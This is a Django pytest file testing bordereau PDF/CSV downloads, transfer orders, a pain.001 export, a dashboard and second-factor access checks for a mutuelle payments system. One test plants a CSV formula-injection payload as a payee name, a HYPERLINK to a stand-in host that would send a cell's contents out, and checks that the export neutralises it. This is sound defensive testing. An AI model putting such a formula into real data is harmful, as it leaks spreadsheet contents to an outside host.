"""Downloads (PDF, CSV, transfer order) and the CNOPS dashboard: success, scope (404), validation."""
import csv
import hashlib
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from mutuelles.models import AMOFund
from payments.services.bank_return import import_bank_return
from tests.factories.beneficiaries import InsuredFactory
from tests.factories.mutuelles import StaffFactory
from tests.payments.support import bank_answer

pytestmark = pytest.mark.django_db


@pytest.fixture
def cnss_officer(db):
    return StaffFactory(role="organisme", mutuelle=None, fund=AMOFund.objects.get(code="CNSS"))


def test_a_cnops_officer_downloads_the_working_copy_marked_not_approved(client, bordereau, fund_officer):
    # given
    client.force_login(fund_officer)
    # when
    response = client.get(reverse("payments:bordereau_pdf", args=[bordereau.pk]))
    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert "projet" in response["Content-Disposition"]


def test_the_approved_pdf_served_is_the_archived_one(client, sent, fund_officer):
    # given
    client.force_login(fund_officer)
    # when
    response = client.get(reverse("payments:bordereau_pdf", args=[sent.pk]))
    # then
    content = b"".join(response.streaming_content)
    assert hashlib.sha256(content).hexdigest() == sent.bordereau_pdf_sha256


@pytest.mark.parametrize("who", ["cnss_officer", "other_agent"])
def test_another_organisme_or_mutuelle_gets_404(client, bordereau, request, who):
    # given
    client.force_login(request.getfixturevalue(who))
    # when / then
    for name in ("payments:bordereau_pdf", "payments:bordereau_csv"):
        assert client.get(reverse(name, args=[bordereau.pk])).status_code == 404


def _downloads(sent) -> dict[str, str]:
    from claims.models import ClaimDocument

    document = ClaimDocument.objects.filter(claim__payment_lines__bordereau=sent).first()
    return {
        "bordereau PDF": reverse("payments:bordereau_pdf", args=[sent.pk]),
        "bordereau CSV": reverse("payments:bordereau_csv", args=[sent.pk]),
        "ordre de virement": reverse("payments:transfer_order", args=[sent.pk]),
        "pain.001": reverse("payments:transfer_order_pain001", args=[sent.pk]),
        "tableau de bord": reverse("payments:dashboard"),
        "pièce médicale": reverse("claims:document", args=[document.pk]),
    }


def test_a_staff_session_opened_with_the_password_alone_downloads_nothing(client, sent, fund_officer):
    # given: the CNOPS officer's password, signed in without the second factor
    client.password_only_login(fund_officer)
    # when
    answers = {what: client.get(url) for what, url in _downloads(sent).items()}
    # then: every download leads to the second-factor step, without a byte of the file
    for what, response in answers.items():
        assert response.status_code == 302, what
        assert response["Location"].startswith(reverse("admin:security")), what
        assert not response.streaming and response.content == b"", what


def test_the_same_officer_verified_by_the_second_factor_downloads_everything(client, sent, fund_officer):
    # given
    client.force_login(fund_officer)
    # when
    answers = {what: client.get(url) for what, url in _downloads(sent).items()}
    # then
    assert {what: response.status_code for what, response in answers.items()} == dict.fromkeys(answers, 200)


def test_a_password_only_session_cannot_approve_a_bordereau(client, bordereau, supervisor, fund_officer):
    # given: a presented bordereau, and the officer's session without the second factor
    from payments.models import BordereauStatus
    from payments.services.review import present_bordereau

    present_bordereau(bordereau=bordereau, by=supervisor)
    client.password_only_login(fund_officer)
    # when
    response = client.post(reverse("admin:payments_bordereau_approve", args=[bordereau.pk]))
    # then
    assert response.status_code == 302
    bordereau.refresh_from_db()
    assert bordereau.status == BordereauStatus.PRESENTED


def test_downloads_need_a_staff_login(client, bordereau):
    # when
    response = client.get(reverse("payments:bordereau_csv", args=[bordereau.pk]))
    # then
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


def test_the_csv_is_utf8_with_bom_semicolons_and_decimal_points(client, bordereau, agent):
    # given an agent of the mutuelle, who may read its bordereaux
    client.force_login(agent)
    # when
    response = client.get(reverse("payments:bordereau_csv", args=[bordereau.pk]))
    # then
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeffBordereau;Référence de paiement;N° de dossier;")
    rows = text.strip("\ufeff").splitlines()
    line = bordereau.lines.order_by("pk").first()
    assert rows[1].split(";")[:3] == [bordereau.number, line.reference, line.claim_number]
    assert rows[1].split(";")[6:10] == ["120.00", "40.00", "160.00", "en attente"]
    assert len(rows) == 3


def test_a_payee_named_like_a_formula_is_text_in_the_csv_and_amounts_stay_numbers(client, liquidated, build, mgpap,
                                                                                  agent, payer_accounts):
    # given an insured person whose name a spreadsheet would run as a formula
    formula = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Voir")'
    liquidated(1, insured=InsuredFactory(mutuelle=mgpap, last_name=formula, first_name="@Karim"))
    bordereau = build(mgpap)
    client.force_login(agent)
    # when
    response = client.get(reverse("payments:bordereau_csv", args=[bordereau.pk]))
    # then
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[3] == row[4] == f"'@Karim {formula}"
    assert row[6:9] == ["120.00", "40.00", "160.00"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_transfer_order_is_downloaded_with_its_hash(client, sent, fund_officer):
    # given
    client.force_login(fund_officer)
    # when
    response = client.get(reverse("payments:transfer_order", args=[sent.pk]))
    # then
    content = b"".join(response.streaming_content)
    assert response["X-Content-SHA256"] == hashlib.sha256(content).hexdigest() == sent.transfer_order.sha256
    assert content.startswith(b"EN;OVAMO1;" + sent.number.encode())


def test_a_mutuelle_agent_may_not_download_the_transfer_order(client, sent, agent):
    # given
    client.force_login(agent)
    # when / then
    assert client.get(reverse("payments:transfer_order", args=[sent.pk])).status_code == 403


def test_no_transfer_order_before_approval_is_404(client, bordereau, fund_officer):
    # given
    client.force_login(fund_officer)
    # when / then
    assert client.get(reverse("payments:transfer_order", args=[bordereau.pk])).status_code == 404


def test_the_dashboard_counts_paid_claims_amounts_and_delays(client, sent, fund_officer,
                                                            django_capture_on_commit_callbacks):
    # given the bank pays today; the claims were filed on 2026-02-02
    today = date.today()
    with django_capture_on_commit_callbacks(execute=True):
        import_bank_return(bordereau=sent, content=bank_answer(sent.transfer_order, processed_on=today),
                           file_name="r.txt", by=fund_officer)
    client.force_login(fund_officer)
    # when
    response = client.get(reverse("payments:dashboard"), {"semaines": "52"})
    # then
    assert response.status_code == 200
    overall = response.context["data"]["overall"]
    delay = (today - date(2026, 2, 2)).days
    assert (overall.paid, overall.amo_paid, overall.complementary_paid) == (2, Decimal("240.00"), Decimal("80.00"))
    assert (overall.median_delay, overall.p90_delay) == (delay, delay)
    content = response.content.decode()
    assert content.count("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox") == 3  # no rejection: no 4th chart
    assert "Aucun rejet sur la période." in content
    assert "60 jours (délai légal)" in content


def test_the_dashboard_is_for_organisme_staff(client, agent):
    # given
    client.force_login(agent)
    # when / then
    assert client.get(reverse("payments:dashboard")).status_code == 403


def test_the_dashboard_ignores_an_unknown_period_or_mutuelle(client, fund_officer):
    # given
    client.force_login(fund_officer)
    # when
    response = client.get(reverse("payments:dashboard"), {"semaines": "abc", "mutuelle": "999"})
    # then
    assert response.status_code == 200
    filters = response.context["filters"]
    assert (filters.weeks, filters.mutuelle_id) == (12, None)
    assert filters.start == filters.end - timedelta(days=filters.end.weekday()) - timedelta(weeks=11)


def test_the_order_is_also_an_iso20022_pain001_with_the_same_transfers(client, sent, fund_officer):
    # given
    import xml.etree.ElementTree as ET

    from payments.transfer_file import parse_transfer_order

    client.force_login(fund_officer)
    flat = parse_transfer_order(sent.transfer_order.file.open("rb").read())
    # when
    response = client.get(reverse("payments:transfer_order_pain001", args=[sent.pk]))
    # then
    ns = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"}
    root = ET.fromstring(response.content)  # noqa: S314 - our own output, parsed to check its structure
    header = root.find("p:CstmrCdtTrfInitn/p:GrpHdr", ns)
    assert [child.tag.split("}")[1] for child in header] == ["MsgId", "CreDtTm", "NbOfTxs", "CtrlSum", "InitgPty"]
    assert (header.findtext("p:MsgId", namespaces=ns), header.findtext("p:NbOfTxs", namespaces=ns),
            header.findtext("p:CtrlSum", namespaces=ns)) == (sent.number, "4", "320.00")
    blocks = root.findall("p:CstmrCdtTrfInitn/p:PmtInf", ns)
    assert [b.findtext("p:DbtrAcct/p:Id/p:IBAN", namespaces=ns) for b in blocks] == [s.payer_iban
                                                                                     for s in flat.sections]
    first = blocks[0]
    assert [c.tag.split("}")[1] for c in first][:11] == [
        "PmtInfId", "PmtMtd", "BtchBookg", "NbOfTxs", "CtrlSum", "ReqdExctnDt", "Dbtr", "DbtrAcct", "DbtrAgt", "ChrgBr",
        "CdtTrfTxInf"]
    ids = [e.text for e in root.iter("{urn:iso:std:iso:20022:tech:xsd:pain.001.001.03}EndToEndId")]
    assert ids == [t.transfer_id for t in flat.transfers]
    amounts = root.findall(".//p:InstdAmt", ns)
    assert {a.get("Ccy") for a in amounts} == {"MAD"}
    assert [Decimal(a.text) for a in amounts] == [t.amount for t in flat.transfers]
